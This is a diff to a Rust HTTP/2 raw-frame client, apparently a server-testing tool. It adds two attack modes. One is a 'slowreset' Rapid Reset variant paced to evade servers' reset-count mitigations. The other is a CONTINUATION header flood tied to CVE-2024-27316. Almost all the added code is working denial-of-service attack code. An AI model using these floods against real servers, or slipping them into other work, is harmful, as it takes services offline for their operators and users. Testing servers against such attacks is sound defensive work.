@@ -904,7 +904,44 @@ fn h2_raw(addr: &str, mode: &str) -> anyhow::Result<()> {
                     ));
                 }
             }
-            _ => anyhow::bail!("mode: preface, headers, request or rapidreset"),
+            // Rapid reset paced to slip past a server's count of streams reset
+            // before it took them up: each stream is cancelled only once 16
+            // more are open, while its answer is still on the way (the
+            // endpoint is asked to wait 10 s).
+            "slowreset" => {
+                tcp.write_all(&sent).await?;
+                sent.clear();
+                for stream in (1..4000u32).step_by(2) {
+                    let mut pair = raw_h2::get(stream, addr, "/reset?delay=10000", true);
+                    if stream > 32 {
+                        let cancel = 8u32.to_be_bytes(); // CANCEL
+                        pair.extend(raw_h2::frame(raw_h2::RST_STREAM, 0, stream - 32, &cancel));
+                    }
+                    if let Err(e) = tcp.write_all(&pair).await {
+                        println!("write_error={e}");
+                        break;
+                    }
+                    tokio::time::sleep(Duration::from_millis(1)).await;
+                }
+            }
+            // CONTINUATION flood (CVE-2024-27316): a header block that never
+            // ends, in frames of valid literal headers.
+            "continuation" => {
+                sent.extend(raw_h2::get(1, addr, "/flood", false));
+                let mut block = Vec::new();
+                for _ in 0..9 {
+                    block.extend([0x00, 7]); // literal without indexing, new name
+                    block.extend(b"x-flood");
+                    block.push(100);
+                    block.extend([b'a'; 100]);
+                }
+                for _ in 0..1000 {
+                    sent.extend(raw_h2::frame(raw_h2::CONTINUATION, 0, 1, &block));
+                }
+            }
+            _ => anyhow::bail!(
+                "mode: preface, headers, request, rapidreset, slowreset or continuation"
+            ),
         }
         // A server may close before taking it all (a flood): say so, and read
         // what it sent.
